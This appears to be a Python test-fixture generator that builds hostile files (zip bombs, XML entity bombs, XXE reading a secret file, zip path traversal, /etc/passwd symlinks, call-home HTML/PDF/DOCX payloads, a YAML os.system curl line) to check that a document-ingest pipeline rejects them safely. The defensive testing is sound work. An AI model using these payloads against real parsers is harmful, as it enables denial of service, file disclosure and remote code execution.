"""Makes the files that an ingest must survive: damaged, oversized, deceitful and merely strange ones."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

from golden import makers as m

GOOD = "Good neighbour: the meeting opens on 6 June 2025 in Geneva."
SECRET = "the-secret-of-another-file"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@dataclass(frozen=True)
class Hostile:
    """A file and what must come of it: an error that matches `reason`, text that holds `reads`, or both.

    With neither, an error or a safe reading will do: it depends on the limits.
    """

    name: str
    content: bytes
    reason: str | None = None
    reads: str | None = None


def hostile(url: str, secret: Path) -> Iterator[Hostile]:
    """Yield the hostile files; `url` is an address that none may ask, `secret` a file that none may show."""
    yield from _empty_and_mislabelled()
    yield from _cut_short()
    yield from _protected()
    yield from _bombs()
    yield from _entities(url, secret)
    yield from _large_and_deep()
    yield from _archives()
    yield from _characters()
    yield from _pdfs(url)
    yield from _messages()
    yield from _odd_office(url)


def write(folder: Path, url: str, secret: Path) -> dict[Path, Hostile]:
    """Write all hostile files into `folder`, and what no content can make: pipes, links, folders."""
    written = {}
    for entry in hostile(url, secret):
        path = folder / entry.name
        path.write_bytes(entry.content)
        written[path] = entry
    (folder / "dangling.docx").symlink_to(folder / "nowhere")
    written[folder / "dangling.docx"] = Hostile("dangling.docx", b"", "No such file")
    (folder / "device.txt").symlink_to("/dev/zero")
    written[folder / "device.txt"] = Hostile("device.txt", b"", "not a regular file")
    (folder / "folder.pdf").mkdir()
    written[folder / "folder.pdf"] = Hostile("folder.pdf", b"", "not a regular file")
    os.mkfifo(folder / "pipe.eml")
    written[folder / "pipe.eml"] = Hostile("pipe.eml", b"", "not a regular file")
    return written


def _good_docx() -> bytes:
    return m.docx(m.p(GOOD) + m.tbl([["a", "b"], ["1", "2"]]))


def _good_pdf() -> bytes:
    return m.pdf([m.PdfPage().text(60, 60, GOOD)])


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(10)))
        + chunk(b"IEND", b"")
    )


def _empty_and_mislabelled() -> Iterator[Hostile]:
    for suffix in ("docx", "pdf", "txt", "xlsx", "eml", "zip", "html"):
        yield Hostile(f"empty.{suffix}", b"", r"empty \(0 bytes\)")
    yield Hostile("blank.txt", b" \r\n\t\n ", "no text")
    yield Hostile("blank.html", b"<html><body><script>x()</script></body></html>", "no visible text")
    yield Hostile("picture-inside.docx", _png(), "pixels|picture")
    yield Hostile("docx-inside.pdf", _good_docx(), reads="Good neighbour")
    yield Hostile("pdf-inside.docx", _good_pdf(), reads="Good neighbour")
    yield Hostile(
        "page-inside.doc", b"<html><body><p>Good neighbour</p></body></html>", reads="Good neighbour"
    )
    yield Hostile("text-inside.docx", GOOD.encode(), "not a .docx file")
    yield Hostile("program.docx", b"\x7fELF" + bytes(200), "program")
    yield Hostile("program.txt", b"MZ\x90\0" + bytes(200), "program")
    yield Hostile("archive.rar", b"Rar!\x1a\x07\0" + bytes(50), "RAR")
    yield Hostile("archive.docx", b"7z\xbc\xaf\x27\x1c" + bytes(50), "7-Zip")
    yield Hostile("unknown.xyz", b"something", "unknown suffix")
    yield Hostile("no-suffix", b"something", "unknown suffix")
    yield Hostile("zip-inside.docx", m.pack({"readme.txt": "hello"}), "without the parts")


def _cut_short() -> Iterator[Hostile]:
    yield Hostile("cut.docx", _good_docx()[:-300], "damaged or cut short")
    yield Hostile("cut-early.docx", _good_docx()[:100], "damaged or cut short")
    yield Hostile("cut.zip", m.pack({"a.txt": "a" * 5000})[:-30], "damaged or cut short")
    pdf = _good_pdf()
    yield Hostile("cut.pdf", pdf[: len(pdf) // 3], "damaged|no text|no pages")
    yield Hostile("cut-picture.png", _png()[:40], "damaged picture$")
    flipped = bytearray(m.docx(m.p(GOOD * 50)))
    at = flipped.index(b"word/document.xml") + 60
    flipped[at : at + 8] = bytes(byte ^ 0xFF for byte in flipped[at : at + 8])
    yield Hostile("flipped.docx", bytes(flipped), "damaged")
    yield Hostile("malformed.docx", m.docx("<w:p><w:r>"), "not well-formed")
    yield Hostile(
        "no-document.docx", m.pack({"[Content_Types].xml": "<Types/>", "word/x.xml": "<x/>"}), "damaged"
    )


def _protected() -> Iterator[Hostile]:
    yield Hostile("password.docx", _OLE + "EncryptedPackage".encode("utf-16-le") + bytes(500), "password")
    yield Hostile("password.xlsx", _OLE + "EncryptionInfo".encode("utf-16-le") + bytes(500), "password")
    locked = bytearray(m.pack({"a.txt": "secret"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(signature) + offset] |= 1
    yield Hostile("password.zip", bytes(locked), "password")
    lock = f"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{'41' * 32}> /U <{'42' * 32}> >> /ID [<{'43' * 16}> <{'43' * 16}>] /Root"
    yield Hostile("password.pdf", _good_pdf().replace(b"/Root", lock.encode(), 1), "password")
    yield Hostile("old.xls", _OLE + "Workbook".encode("utf-16-le") + bytes(500), r"\.xlsx")
    yield Hostile("outlook.eml", _OLE + "__substg1.0_".encode("utf-16-le") + bytes(500), r"\.eml")
    yield Hostile(
        "macros.docm", m.docx(m.p(GOOD), parts={"word/vbaProject.bin": b"AutoOpen"}), reads="Good neighbour"
    )


def _bombs() -> Iterator[Hostile]:
    zeros = io.BytesIO()
    with zipfile.ZipFile(zeros, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.txt", bytes(40 << 20))
    bomb = zeros.getvalue()
    yield Hostile("bomb.zip", bomb, "zip bomb|unpack")
    yield Hostile("bomb-in-bomb.zip", m.pack({f"{n}.zip": bomb for n in range(20)}), "zip bomb|unpack")
    stated = bytearray(bomb)
    at = stated.index(b"PK\x01\x02") + 24
    stated[at : at + 4] = struct.pack("<I", 100)
    yield Hostile("lying-size.zip", bytes(stated), "can't be unpacked|damaged")
    huge = bytearray(bomb)
    huge[at : at + 4] = struct.pack("<I", 2**31)
    yield Hostile("claims-2-gib.zip", bytes(huge), "2,048 MiB")
    names = io.BytesIO()
    with zipfile.ZipFile(names, "w") as archive:
        for number in range(10_001):
            archive.writestr(f"{number}.txt", "")
    yield Hostile("ten-thousand-and-one.zip", names.getvalue(), "members")
    spaces = m.docx("<!--" + " " * 20_000_000 + "-->" + m.p(GOOD))
    yield Hostile("bomb.docx", spaces, "zip bomb")
    inner = m.pack({"a.txt": GOOD})
    for _ in range(8):
        inner = m.pack({"deeper.zip": inner})
    yield Hostile("matryoshka.zip", inner, "deep")


def _entities(url: str, secret: Path) -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    bomb = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]>'
    outside = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    asking = f'<?xml version="1.0"?><!DOCTYPE w SYSTEM "{url}/evil.dtd">'
    blowup = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY b "{"x" * 50_000}">]>'
    body = f'<w:document xmlns:w="{m.W}"><w:body><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:body></w:document>'

    def document(head: str, text: str) -> bytes:
        return m.docx("", parts={"word/document.xml": head + body.format(text)})

    yield Hostile("entity-bomb.docx", document(bomb, "&l9;"), "entities")
    yield Hostile("entity-blowup.docx", document(blowup, "&b;" * 20_000), "entities")
    yield Hostile("external-entity.docx", document(outside, "&x;"), "entities")
    yield Hostile("external-dtd.docx", document(asking, "text"), "entities")
    wide = (outside.replace("?>", ' encoding="utf-16"?>', 1) + body.format("&x;")).encode("utf-16")
    yield Hostile(
        "external-entity-utf16.docx", m.docx("", parts={"word/document.xml": wide}), "entities|well-formed"
    )
    for suffix, part in (("xlsx", "xl/workbook.xml"), ("pptx", "ppt/presentation.xml")):
        content = m.pack({"[Content_Types].xml": "<Types/>", part: f"{outside}<w>&x;</w>"})
        yield Hostile(f"external-entity.{suffix}", content, "entities")
    page = f"{outside}<html><body><p>Good neighbour &x;</p></body></html>"
    yield Hostile("external-entity.xhtml", page.encode(), reads="Good neighbour")
    page = (
        f'<html><head><meta http-equiv=refresh content="0;url={url}/r"><link rel=stylesheet href="{url}/c">'
        f'<base href="{url}"></head><body><p>Good neighbour</p><img src="{url}/i"><iframe src="{url}/f"></iframe>'
        f'<object data="{url}/o"></object><script src="{url}/s"></script></body></html>'
    )
    yield Hostile("calls-home.html", page.encode(), reads="Good neighbour")
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" '
        f'Type="{m.R}/attachedTemplate" Target="{url}/t" TargetMode="External"/><Relationship Id="s" '
        f'Type="{m.R}/styles" Target="{url}/s" TargetMode="External"/></Relationships>'
    )
    content = m.docx(m.p(GOOD), parts={"word/_rels/document.xml.rels": relations})
    yield Hostile("calls-home.docx", content, reads="Good neighbour")
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s" '
        f'Type="{m.R}/styles" Target="../../../../etc/passwd"/></Relationships>'
    )
    content = m.docx(m.p(GOOD), parts={"word/_rels/document.xml.rels": relations})
    yield Hostile("climbing-part.docx", content, reads="Good neighbour")


def _large_and_deep() -> Iterator[Hostile]:
    shuffled = random.Random(1)
    many = "".join(m.p(f"Paragraph {shuffled.random()}") for _ in range(400_000))
    yield Hostile("400000-paragraphs.docx", m.docx(many), "400,000 lines|took longer")
    lines = "\n".join(f"line {n}" for n in range(400_000))
    yield Hostile("400000-lines.txt", lines.encode(), "400,000 lines|took longer")
    yield Hostile("400000-lines.md", lines.replace("\n", "\n\n").encode(), "400,000 lines|took longer")
    small = "".join(m.p("x", "h1", (1, 0)) for _ in range(60_000))
    lists = m.abstract(0, [("decimal", "%1.")])
    yield Hostile("slow-small.docx", m.docx(small, lists, m.num(1, 0)))
    cell = m.p(GOOD)
    for _ in range(3000):
        cell = f"<w:tbl><w:tr><w:tc>{cell}</w:tc><w:tc>{m.p('x')}</w:tc></w:tr></w:tbl>"
    yield Hostile("deep-tables.docx", m.docx(cell), "damaged|deep")
    yield Hostile("deep.html", ("<div>" * 100_000 + "Good neighbour").encode(), "nested too deeply")
    yield Hostile("300-deep.html", ("<div>" * 300 + "Good neighbour").encode(), reads="Good neighbour")
    yield Hostile("deep-lists.html", ("<ul><li>" * 20_000 + "x").encode(), "nested too deeply")
    yield Hostile("deep-quotes.md", (">" * 50_000 + " x").encode(), "nested too deeply")
    yield Hostile("deep-brackets.md", ("[" * 50_000 + "x").encode())
    yield Hostile("stars.md", ("*a **b " * 20_000).encode())
    wide = "<table><tr><td colspan=999999999 rowspan=999999999>Good neighbour<td>b<tr><td>c<td>d</table>"
    yield Hostile("spans.html", wide.encode(), reads="Good neighbour")
    yield Hostile("one-line.txt", b"word " * 2_000_000)
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999999"/></w:tcPr>{}</w:tc><w:tc>{}</w:tc></w:tr></w:tbl>'
    yield Hostile("spans.docx", m.docx(span.format(m.p(GOOD), m.p("b"))), reads="Good neighbour")
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cols><col min="2" max="99999999" '
        'hidden="1"/></cols><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Good neighbour</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="?"><v>2</v></c><c t="s"><v>99</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="nonsense"/></mergeCells></worksheet>'
    )
    yield Hostile("wide.xlsx", _xlsx(sheet), reads="Good neighbour")


def _xlsx(sheet: str) -> bytes:
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return m.pack(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{m.R}"><sheets><sheet name="S" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{relations}"><Relationship Id="r1" Type="{m.R}/worksheet" Target="sheet.xml"/></Relationships>',
            "xl/sheet.xml": sheet,
        }
    )


def _archives() -> Iterator[Hostile]:
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as archive:
        entry = zipfile.ZipInfo("link.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
        archive.writestr("good.txt", GOOD)
    yield Hostile("symlink.zip", link.getvalue(), "link", "Good neighbour")
    for name, inner in (
        ("traversal.zip", "../../../../tmp/evil.txt"),
        ("absolute.zip", "/etc/evil.txt"),
        ("drive.zip", "C:/evil.txt"),
        ("backslash.zip", "..\\..\\evil.txt"),
    ):
        yield Hostile(
            name, m.pack({inner: "evil", "good.txt": GOOD}), "outside the archive", "Good neighbour"
        )
    yield Hostile(
        "rtl-name.zip",
        m.pack({"agenda\u202etxt.exe": "MZ\0\0" + "\0" * 100, "good.txt": GOOD}),
        "unknown suffix|program",
        "Good neighbour",
    )
    yield Hostile("long-name.zip", m.pack({f"{'长' * 300}.txt": GOOD}), reads="Good neighbour")
    yield Hostile(
        "bad-member.zip",
        m.pack({"bad.docx": b"PK\x03\x04 no", "good.txt": GOOD}),
        r"bad\.docx",
        "Good neighbour",
    )
    yield Hostile("empty-archive.zip", m.pack({}), "empty|damaged")
    method = bytearray(m.pack({"a.txt": GOOD}))
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        method[method.index(signature) + offset] = 98
    yield Hostile("unknown-method.zip", bytes(method), "can't be unpacked")


def _characters() -> Iterator[Hostile]:
    yield Hostile(
        "invalid-utf8.txt",
        GOOD.encode() + b"\xff\xfe\xc3\x28 \xe2\x82 end" + "é".encode() * 20,
        reads="Good neighbour",
    )
    mixed = (
        "Réunion à Genève\n".encode()
        + "会议将于六月在日内瓦举行，请出席。\n".encode("gb18030")
        + GOOD.encode()
    )
    yield Hostile("mixed.txt", mixed, reads="Good neighbour")
    yield Hostile("odd-utf16.txt", GOOD.encode("utf-16") + b"\0", reads="Good neighbour")
    yield Hostile("zeros.txt", bytes(5000), "not text|no text")
    yield Hostile("noise.txt", random.Random(2).randbytes(5000), "not text")
    yield Hostile("noise.docx", random.Random(3).randbytes(5000), "not a .docx file")
    yield Hostile("marks.txt", f"\u202e\u2066{GOOD}\u200f\u200b".encode(), reads="Good neighbour")
    yield Hostile(f"{'a' * 240}.txt", GOOD.encode(), reads="Good neighbour")
    yield Hostile("\u202egnp.agenda\u200f \u2028.txt", GOOD.encode(), reads="Good neighbour")
    yield Hostile(
        "surrogates.html", b"<p>Good neighbour &#xD800; &#0; &#x110000; \0</p>", reads="Good neighbour"
    )
    yield Hostile("control.md", b"Good neighbour \x1b[31mred\x07\x08", reads="Good neighbour")


def _pdfs(url: str) -> Iterator[Hostile]:
    yield Hostile("garbage.pdf", b"%PDF-1.7\n" + random.Random(4).randbytes(3000), "damaged")
    good = _good_pdf()
    yield Hostile("loop.pdf", good.replace(b"/Type /Pages /Count 1", b"/Type /Pages /Parent 9 0 R /Count 1"))
    yield Hostile("million-pages.pdf", good.replace(b"/Count 1", b"/Count 1000000"), "1,000,000 pages")
    action = f"/OpenAction << /S /URI /URI ({url}/pdf) >> /AA << /O << /S /JavaScript /JS (app.launchURL('{url}')) >> >> /Type /Catalog"
    yield Hostile(
        "calls-home.pdf", good.replace(b"/Type /Catalog", action.encode(), 1), reads="Good neighbour"
    )
    yield Hostile("huge-page.pdf", good.replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"))
    lines = m.PdfPage().text(60, 60, GOOD)
    for number in range(30_000):
        lines.line(number % 500, number % 700, number % 500 + 40, number % 700)
    yield Hostile("drawing.pdf", m.pdf([lines]), reads="Good neighbour")
    data = zlib.compress(bytes(100_000_000), 1)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data
    start = good.index(b"<< /Length", good.index(b"endstream"))
    end = good.index(b"\nendstream", start)
    yield Hostile("stream-bomb.pdf", good[:start] + stream + good[end:])


def _messages() -> Iterator[Hostile]:
    yield Hostile("no-headers.eml", b"just some words\n\nand more", "not a mail message")
    deep = b"Subject: Good neighbour\n" + b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(2000)
    )
    yield Hostile("deep.eml", deep)
    broken = b"Subject: Good neighbour\nContent-Transfer-Encoding: base64\n\n%%%not base64%%%="
    yield Hostile("bad-base64.eml", broken, reads="Good neighbour")
    headers = b"Subject: =?utf-8?b?////?= Good neighbour\nFrom: \xff\xfe<@@>\nDate: yesterday\n\nbody"
    yield Hostile("bad-headers.eml", headers, reads="neighbour")
    charset = b"Subject: Good neighbour\nContent-Type: text/plain; charset=x-no-such\n\nbody"
    yield Hostile("bad-charset.eml", charset, reads="body")
    message = EmailMessage()
    message["Subject"] = "Good neighbour"
    message.set_content("with attachments")
    message.add_attachment(
        _good_docx()[:200], maintype="application", subtype="octet-stream", filename="cut.docx"
    )
    message.add_attachment(b"", maintype="application", subtype="octet-stream", filename="../../empty.pdf")
    yield Hostile("bad-attachments.eml", message.as_bytes(), r"cut\.docx", "Good neighbour")


def _odd_office(url: str) -> Iterator[Hostile]:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>'
        for n in range(3)
    )
    styles = f'<w:styles xmlns:w="{m.W}">{ring}</w:styles>'
    yield Hostile(
        "style-ring.docx", m.docx(m.p(GOOD, "s0"), parts={"word/styles.xml": styles}), reads="Good neighbour"
    )
    levels = [("upperRoman", "%1%2%9."), ("nonsense", "%x")]
    numbered = m.p(GOOD, num=(1, 8)) + m.p("b", num=(1, 1)) + m.p("c", num=(77, 0))
    content = m.docx(numbered, m.abstract(0, levels, start=999_999_999), m.num(1, 0))
    yield Hostile("odd-numbering.docx", content, reads="Good neighbour")
    merges = m.tbl([[("lonely", "^"), "x"], [GOOD, ("", "^")]])
    yield Hostile("odd-merges.docx", m.docx(merges), reads="Good neighbour")
    yield Hostile("no-text.docx", m.docx(m.p("")), "no text")
    yield Hostile("pixels.png", _png(), "pixels")
    table = "<table><tr><td rowspan=-5 colspan=x>Good neighbour<td rowspan=0>b<tr><td>c</table>"
    yield Hostile("odd-spans.html", table.encode(), reads="Good neighbour")
    yield Hostile(
        "frontmatter.md",
        f"---\na: !!python/object/apply:os.system ['curl {url}']\n---\nGood neighbour".encode(),
        reads="Good neighbour",
    )
    nothing = m.pack(
        {"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": f'<p:presentation xmlns:p="{m.R}"/>'}
    )
    yield Hostile("no-slides.pptx", nothing, "no text")
